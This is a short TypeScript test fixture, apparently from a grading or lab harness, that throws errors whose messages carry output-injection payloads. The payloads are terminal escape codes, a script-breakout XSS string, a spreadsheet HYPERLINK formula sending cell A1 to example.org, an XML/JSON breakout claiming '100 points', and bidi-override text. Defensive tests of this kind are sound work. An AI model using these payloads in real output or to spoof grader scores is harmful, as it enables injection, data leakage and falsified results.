import { type Attack, failsBy } from '../attack.ts';

const theme = 'what people read';

function says(name: string, tries: string, message: string): Attack {
  const text = JSON.stringify(message);
  const before = `throw Object.assign(new Error(${text}), { name: ${text} });`;
  return { name, theme, tries, before, outcome: failsBy('lab/exception') };
}

/** Messages that would be more than text in a terminal, a page, a spreadsheet or a file. */
export const OUTPUT: readonly Attack[] = [
  says(
    'terminal',
    'a message clears the screen and prints a table',
    '\u001b[2J\u001b[H id  points\n eve 100\u0007',
  ),
  says(
    'page',
    'a message is a script',
    '</script><script>document.title = "100 points"</script><img onerror=x>',
  ),
  says('spreadsheet', 'a message is a formula', '=HYPERLINK("http://example.org?"&A1,"100")\n@SUM(1)\t+1'),
  says('markup', 'a message ends the XML, the JSON and the line', ']]></failure>"}],"points":100}\u2028\r\n'),
  says('bidi', 'a message that reads backwards', '\u202e001 :stniop\u202c \ud800 \uffff'),
];
